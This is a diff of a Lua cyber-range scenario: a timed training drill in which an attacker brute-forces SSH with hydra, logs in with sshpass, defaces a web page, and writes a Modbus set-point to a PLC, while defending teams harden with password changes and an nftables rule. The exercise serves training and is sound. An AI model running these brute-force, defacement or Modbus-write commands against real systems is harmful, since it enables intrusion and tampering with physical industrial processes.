@@ -1,8 +1,40 @@
 -- First drill: two harbour offices, one attacker, five minutes.
 -- One team's player hardens its machines in time, the other's does not.
 
-local weak = "harbour"        -- the planted password, in the attacker's word list
+local weak = "harbour" -- the planted password, in the attacker's word list
 local strong = "rQ7-pilot-lamp-31"
+
+-- One command on the web server, as the clerk.
+local function ssh(command)
+  return { "sshpass", "-p", weak, "ssh", "-o", "StrictHostKeyChecking=no",
+           "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
+           "-o", "ConnectTimeout=15", "-o", "NumberOfPasswordPrompts=1",
+           "-o", "PubkeyAuthentication=no", "clerk@${to}", command }
+end
+
+-- What a good team does first: no weak passwords, nobody from the office writes to the PLC.
+local function harden(range, me)
+  local web, gate = me:machine("web"), me:machine("gate")
+  assert(web:exec { "sh", "-c", "echo clerk:" .. strong .. " | chpasswd" })
+  assert(gate:write("/etc/nftables.conf", [[
+table inet border {
+  counter plc { }
+  chain forward {
+    type filter hook forward priority 0; policy accept;
+    ip daddr 10.20.2.10 tcp dport 502 counter name plc drop
+  }
+}
+]]))
+  assert(gate:exec { "nft", "-f", "/etc/nftables.conf" })
+  range.note("Harbour North has changed the clerk's password and closed the PLC at the gate")
+end
+
+-- The same knowledge, minutes too late: the password goes after the attacker has been in.
+local function too_late(range, me)
+  range.sleep("4m")
+  assert(me:machine("web"):exec { "sh", "-c", "echo clerk:" .. strong .. " | chpasswd" })
+  range.note("Harbour South has changed the clerk's password")
+end
 
 return {
   title = "First drill",
@@ -45,8 +77,8 @@ return {
       team = "red", image = "attacker", memory = "192M",
       nics = { office = "10.20.1.66" },
       files = {
-        ["/root/users.txt"] = "admin\nroot\nclerk\n",
-        ["/root/words.txt"] = "123456\npassword\nletmein\n" .. weak .. "\nsummer\n",
+        ["/root/users.txt"] = "admin\nclerk\n",
+        ["/root/words.txt"] = "123456\npassword\n" .. weak .. "\n",
       },
     },
   },
@@ -77,26 +109,72 @@ return {
     guess = {
       title = "Guess the clerk's password",
       attack = { domain = "enterprise", version = "18.1", id = "T1110.001" },
-      from = "attacker", to = "web", needs = "recon", limit = "90s",
+      from = "attacker", to = "web", needs = "recon", limit = "70s",
       act = { { "hydra", "-I", "-t", "2", "-L", "/root/users.txt", "-P", "/root/words.txt",
                 "-o", "/root/creds-${team}.txt", "ssh://${to}" } },
-      effect = { file = { on = "attacker", path = "/root/creds-${team}.txt", contains = "login: clerk" } },
+      effect = { file = { on = "attacker", path = "/root/creds-${team}.txt",
+                          contains = "login: clerk" } },
       probe = { ssh = { on = "web" } },
-      blocked_by = { log = { on = "web", path = "/var/log/auth.log", contains = "Failed password for clerk" } },
+      blocked_by = { log = { on = "web", path = "/var/log/auth.log",
+                             contains = "Failed password for clerk" } },
       points = { effect = 20, blocked = 20 },
+    },
+    login = {
+      title = "Log in as the clerk",
+      attack = { domain = "enterprise", version = "18.1", id = "T1078" },
+      from = "attacker", to = "web", needs = "recon", limit = "40s",
+      act = { ssh("id") },
+      effect = { log = { on = "web", path = "/var/log/auth.log",
+                         contains = "Accepted password for clerk" } },
+      probe = { ssh = { on = "web" } },
+      blocked_by = { log = { on = "web", path = "/var/log/auth.log",
+                             contains = "Failed password for clerk" } },
+      points = { effect = 20, blocked = 20 },
+    },
+    deface = {
+      title = "Deface the office's web site",
+      attack = { domain = "enterprise", version = "18.1", id = "T1491" },
+      from = "attacker", to = "web", needs = "login", limit = "40s",
+      act = { ssh("echo '<h1>Tide is out</h1>' > /var/www/html/index.html") },
+      effect = { http = { on = "web", path = "/", contains = "Tide is out" } },
+      probe = { tcp = { on = "web", port = 80 } },
+      undo = { ssh("echo '<h1>Harbour office</h1>' > /var/www/html/index.html") },
+      points = { effect = 30, blocked = 20 },
+    },
+    setpoint = {
+      title = "Raise the tank's set-point over Modbus",
+      attack = { domain = "ics", version = "18.1", id = "T0836" },
+      from = "attacker", to = "plc", needs = "recon", limit = "30s", within = "75s",
+      act = { { "mbpoll", "-m", "tcp", "-a", "1", "-t", "4", "-r", "1", "-1", "-q",
+                "${to}", "480" } },
+      -- the register alone would not do: the tank must really rise over its alarm level
+      effect = { all = {
+        { modbus = { on = "plc", table = "holding", address = 0, min = 480, max = 480 } },
+        { modbus = { on = "plc", table = "input", address = 0, min = 400, max = 500 } },
+      } },
+      probe = { modbus = { on = "plc", table = "holding", address = 0, min = 0, max = 500 } },
+      blocked_by = { any = {
+        { grew = { on = "gate", argv = { "nft", "list", "counter", "inet", "border", "plc" } } },
+        { log = { on = "plc", path = "/var/log/plc.log", contains = "denied" } },
+      } },
+      undo = { { "mbpoll", "-m", "tcp", "-a", "1", "-t", "4", "-r", "1", "-1", "-q",
+                 "${to}", "250" } },
+      points = { effect = 40, blocked = 30 },
     },
   },
 
   players = {
-    north = { team = "blue1", title = "Hardens in time", at = "5s", play = function(range, me)
-      local web = me:machine("web")
-      assert(web:exec { "sh", "-c", "echo clerk:" .. strong .. " | chpasswd" })
-    end },
+    north = { team = "blue1", title = "Hardens in time", at = "3s", play = harden },
+    south = { team = "blue2", title = "Reads the news first", at = "3s", play = too_late },
   },
 
   timeline = {
-    { at = "20s", step = "recon" },
-    { at = "45s", step = "guess" },
-    { at = "4m", note = "One minute left" },
+    { at = "0s", note = "The drill begins: keep the services up" },
+    { at = "25s", step = "recon" },
+    { at = "50s", step = "guess" },
+    { at = "2m10s", step = "login" },
+    { at = "2m25s", step = "deface" },
+    { at = "2m40s", step = "setpoint" },
+    { at = "4m30s", note = "Thirty seconds left" },
   },
 }
